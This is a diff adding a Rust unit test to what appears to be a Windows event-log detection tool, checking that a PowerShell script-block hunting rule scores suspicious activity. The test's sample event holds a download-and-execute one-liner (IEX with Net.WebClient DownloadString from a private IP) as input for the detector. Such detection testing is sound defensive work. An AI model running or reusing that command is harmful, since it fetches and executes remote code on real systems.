@@ -285,3 +285,40 @@ fn privilege_escalation_joins_processes_with_processes() {
     // Without the SYSTEM child there is nothing to join.
     assert!(run(&rule, &[user_proc]).is_empty());
 }
+
+#[test]
+fn powershell_hunting_scores_with_addtotals() {
+    let Some(root) = corpus() else { return };
+    let rule = detection(&root, "powershell_4104_hunting.yml");
+    let sb = |record: u64, text: &str| {
+        event(
+            "Microsoft-Windows-PowerShell/Operational",
+            4104,
+            record,
+            "2024-01-01T10:00:00Z",
+            &[
+                ("MessageNumber", "1"),
+                ("MessageTotal", "1"),
+                ("ScriptBlockText", text),
+                ("ScriptBlockId", "{x}"),
+            ],
+        )
+    };
+    let evs = [
+        sb(
+            1,
+            "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')",
+        ),
+        sb(2, "Write-Output 1"),
+    ];
+    let hits = run(&rule, &evs);
+    let score = |h: &evtxscan::hit::Hit| field(h, "values(Score)").map(str::to_string);
+    let mut scores: Vec<Option<String>> = hits.iter().map(score).collect();
+    scores.sort();
+    // iex 2 + webclient 5 = 7; the plain script scores 0.
+    assert_eq!(scores, vec![Some("0".to_string()), Some("7".to_string())]);
+    let h = hits.iter().find(|h| field(h, "iex") == Some("2")).unwrap();
+    assert_eq!(field(h, "webclient"), Some("5"));
+    assert_eq!(field(h, "user"), Some("S-1-5-18"));
+    assert_eq!(field(h, "dest"), Some("WS01.corp.local"));
+}
